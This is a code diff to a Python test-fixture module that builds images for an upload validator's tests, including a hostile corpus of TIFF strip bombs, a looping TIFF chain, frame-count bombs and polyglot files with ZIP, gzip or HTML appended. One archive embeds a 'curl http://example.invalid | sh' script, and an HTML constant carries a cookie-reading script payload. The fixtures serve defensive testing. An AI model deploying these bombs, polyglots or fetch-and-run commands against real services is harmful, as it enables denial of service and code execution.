@@ -1,7 +1,9 @@
 """Photos for the tests, made on the spot: good ones of every kind, and a hostile corpus."""
 
+import gzip
 import io
 import struct
+import zipfile
 import zlib
 
 import numpy as np
@@ -110,6 +112,43 @@ def heic(width=320, height=240, *, seed=3) -> bytes:
     return out.getvalue()
 
 
+def heic_burst(images: int = 3, *, seed: int = 18) -> bytes:
+    """A HEIC holding a burst: top-level images, the primary first and larger than the others."""
+    first, *rest = [picture(320, 240, seed)] + [picture(64, 48, seed + n) for n in range(1, images)]
+    out = io.BytesIO()
+    first.save(out, "HEIF", save_all=True, append_images=rest)
+    return out.getvalue()
+
+
+def tiff_pages(pages: int = 3, *, seed: int = 17) -> bytes:
+    """A multi-page TIFF as a scanner writes a document: a photo first, then (small) pages."""
+    first = picture(300, 200, seed)
+    rest = [Image.new("L", (16, 16), n % 256) for n in range(1, pages)]
+    out = io.BytesIO()
+    first.save(out, "TIFF", save_all=True, append_images=rest)
+    return out.getvalue()
+
+
+def tiff_looping() -> bytes:
+    """A 2-page TIFF whose last directory links back to the first: a chain without an end."""
+    data = bytearray(tiff_pages(2))
+    first = at = int.from_bytes(data[4:8], "little")
+    while True:
+        link = at + 2 + 12 * int.from_bytes(data[at : at + 2], "little")
+        at = int.from_bytes(data[link : link + 4], "little")
+        if at == 0:
+            data[link : link + 4] = first.to_bytes(4, "little")
+            return bytes(data)
+
+
+def apng(frames: int = 1000) -> bytes:
+    """An animated PNG of tiny frames, each unlike the one before (Pillow merges equal ones)."""
+    images = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
+    out = io.BytesIO()
+    images[0].save(out, "PNG", save_all=True, append_images=images[1:])
+    return out.getvalue()
+
+
 def dng(width=256, height=192, *, seed=4, orientation=1, preview=None) -> bytes:
     """A minimal DNG: a colour filter array in a SubIFD and an RGB preview in IFD0.
 
@@ -176,12 +215,131 @@ def png_bomb(side: int = 100_000) -> bytes:
     )
 
 
+def large_png(width: int, height: int, *, alpha: bool = False, seed: int = 16) -> bytes:
+    """A photo-sized PNG (RGB, or RGBA with varying alpha), written a row at a time so that
+    making it never holds its pixels: a gradient with fine noise, quick to compress."""
+    channels = 4 if alpha else 3
+    rng = np.random.default_rng(seed)
+    texture = rng.integers(0, 4, size=(61, width * channels), dtype=np.uint8)
+    ramp = (np.arange(width * channels) * 200 // (width * channels)).astype(np.uint8)
+    compressor = zlib.compressobj(1)
+    rows = (
+        compressor.compress(b"\x00" + (ramp + texture[y % 61] + y * 40 // height).tobytes())
+        for y in range(height)
+    )
+    body = b"".join(rows) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 8, 6 if alpha else 2, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", body)
+        + _png_chunk(b"IEND", b"")
+    )
+
+
 def jpeg_bomb() -> bytes:
     """A small JPEG whose frame header claims 60000 × 60000 pixels."""
     data = bytearray(jpeg(64, 64))
     sof = data.find(b"\xff\xc0")
     data[sof + 5 : sof + 9] = struct.pack(">HH", 60000, 60000)
     return bytes(data)
+
+
+def tiff_strip_bomb(width: int = 64, height: int = 1_000_000) -> bytes:
+    """A TIFF of width × height pixels, one row per strip, every strip pointing at one row's bytes.
+
+    The outside test's file: 8 MB (the strip table) for 64 megapixels, a million strips to decode.
+    """
+    row = bytes(range(width))
+    strips_at = 8 + len(row)
+    counts_at = strips_at + 4 * height
+    directory_at = counts_at + 4 * height
+    entries = [  # tag, type (3 SHORT, 4 LONG), count, value or offset
+        (256, 3, 1, width),
+        (257, 4, 1, height),
+        (258, 3, 1, 8),
+        (259, 3, 1, 1),  # no compression
+        (262, 3, 1, 1),  # black is zero
+        (273, 4, height, strips_at),
+        (277, 3, 1, 1),
+        (278, 4, 1, 1),  # one row per strip
+        (279, 4, height, counts_at),
+    ]
+    directory = struct.pack("<H", len(entries)) + b"".join(
+        struct.pack("<HHIHH" if kind == 3 else "<HHII", tag, kind, count, value, *[0][: 4 - kind])
+        for tag, kind, count, value in entries
+    )
+    return (
+        b"II*\x00"
+        + struct.pack("<I", directory_at)
+        + row
+        + struct.pack(f"<{height}I", *[8] * height)
+        + struct.pack(f"<{height}I", *[width] * height)
+        + directory
+        + b"\x00\x00\x00\x00"
+    )
+
+
+COMMENT = b"Client: Jane Example, mobile +49 170 1234567, wants the retouched set"
+
+
+def jpeg_with_comment(comment: bytes = COMMENT, *, seed: int = 12) -> bytes:
+    """A JPEG with its comment in COM segments after SOI (64 KB each, as long as it takes)."""
+    data = jpeg(seed=seed)
+    pieces = [comment[at : at + 65_533] for at in range(0, len(comment), 65_533)]
+    return data[:2] + b"".join(_jpeg_segment(0xFE, piece) for piece in pieces) + data[2:]
+
+
+def png_with_comment(comment: bytes = COMMENT, *, seed: int = 13) -> bytes:
+    """A PNG with a text chunk named `comment`: Pillow reads it as the image's comment."""
+    data = png(seed=seed)
+    iend = data.rfind(b"IEND") - 4
+    return data[:iend] + _png_chunk(b"tEXt", b"comment\x00" + comment) + data[iend:]
+
+
+def zip_archive(compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """A ZIP of a web page and a script, as a polyglot appends it."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", compression) as archive:
+        archive.writestr("index.html", HTML * 20)
+        archive.writestr("run.sh", b"#!/bin/sh\ncurl http://example.invalid | sh\n" * 20)
+    return out.getvalue()
+
+
+def mpo(*, seed: int = 14, claimed: int = 2) -> bytes:
+    """A multi-picture JPEG as stereo and some phone cameras write it: a second JPEG appended,
+    and an MP index (APP2 "MPF") in the first one's header that lists both.
+
+    With `claimed`, the index lists that many images, all but the first being the second JPEG.
+    """
+    first, second = jpeg(seed=seed), jpeg(320, 240, seed=seed + 1)
+    at = first.find(b"\xff\xdb")  # after the APP0 and APP1 segments, as cameras place it
+    length = len(_mp_index([(0, 0, 0)] * claimed))
+    # Offsets count from the index's TIFF header, after the marker, its length and "MPF\0".
+    second_at = len(first) + length - (at + 8)
+    index = _mp_index(
+        [(0x030000, len(first) + length, 0)] + [(0x020002, len(second), second_at)] * (claimed - 1)
+    )
+    return first[:at] + index + first[at:] + second
+
+
+def _mp_index(entries: list[tuple[int, int, int]]) -> bytes:
+    """An APP2 MP index segment: version, NumberOfImages, and one MP entry (attribute, size,
+    offset) per image."""
+    fields = [
+        struct.pack("<HHI4s", 0xB000, 7, 4, b"0100"),
+        struct.pack("<HHII", 0xB001, 4, 1, len(entries)),
+        struct.pack("<HHII", 0xB002, 7, 16 * len(entries), 8 + 2 + 12 * 3 + 4),
+    ]
+    tiff = b"II*\x00" + struct.pack("<IH", 8, len(fields)) + b"".join(fields) + bytes(4)
+    tiff += b"".join(struct.pack("<IIIHH", *entry, 0, 0) for entry in entries)
+    return _jpeg_segment(0xE2, b"MPF\x00" + tiff)
+
+
+def motion_photo(*, seed: int = 15) -> bytes:
+    """A JPEG with a phone's trailer appended: a video (here 2 MB of random bytes) and its tag."""
+    video = np.random.default_rng(seed).bytes(2_000_000)
+    return jpeg(seed=seed) + b"\x00\x00\x00\x18ftypmp42" + video + b"MotionPhoto_Data"
 
 
 EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto showpage\n"
@@ -194,7 +352,16 @@ HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></bod
 
 def odd() -> dict[str, bytes]:
     """Odd but usable photos by name: accepted at upload, and every size is made from them."""
-    return {"corrupt-exif.png": png_with_corrupt_exif()}
+    return {
+        "corrupt-exif.png": png_with_corrupt_exif(),
+        "comment.jpg": jpeg_with_comment(),
+        "long-comment.jpg": jpeg_with_comment(COMMENT * 30_000),  # 2 MB in 32 COM segments
+        "comment.png": png_with_comment(),
+        "stereo.mpo.jpg": mpo(),
+        "motion-photo.jpg": motion_photo(),
+        "scan-3-pages.tif": tiff_pages(3),
+        "burst.heic": heic_burst(3),
+    }
 
 
 def hostile() -> dict[str, tuple[bytes, set[str]]]:
@@ -219,6 +386,20 @@ def hostile() -> dict[str, tuple[bytes, set[str]]]:
         "garbage-body.jpg": (good_jpeg[:400] + b"\x00" * 3000 + b"\xff\xd9", "truncated"),
         "garbage.tif": (b"II*\x00" + b"\x08\x00\x00\x00" + b"\xff" * 500, "corrupt"),
         "garbage.heic": (good_heic[:40] + b"\x00" * 400, "corrupt"),
+        "strip-bomb.tif": (tiff_strip_bomb(), "too_many_strips"),
+        "shared-strips.tif": (tiff_strip_bomb(64, 2000), "corrupt"),
+        "animation-1000-frames.png": (apng(1000), "too_many_frames"),
+        "document-200-pages.tif": (tiff_pages(200), "too_many_frames"),
+        "looping-pages.tif": (tiff_looping(), "corrupt"),
+        "mpo-claiming-500.jpg": (mpo(claimed=500), "too_many_frames"),
+        "polyglot-zip.jpg": (good_jpeg + zip_archive(), "trailing_data"),
+        "polyglot-stored-zip.jpg": (good_jpeg + zip_archive(zipfile.ZIP_STORED), "trailing_data"),
+        "polyglot-gzip.jpg": (good_jpeg + gzip.compress(HTML), "trailing_data"),
+        "polyglot-7z.jpg": (good_jpeg + b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), "trailing_data"),
+        "polyglot-zip-after-mpo.jpg": (mpo() + zip_archive(), "trailing_data"),
+        "polyglot-zip.tif": (tiff(seed=9) + zip_archive(), "trailing_data"),
+        "polyglot-zip.heic": (good_heic + zip_archive(), "trailing_data"),
+        "polyglot.heic": (good_heic + HTML, "trailing_data"),
     }
     return {
         name: (data, {codes} if isinstance(codes, str) else codes)
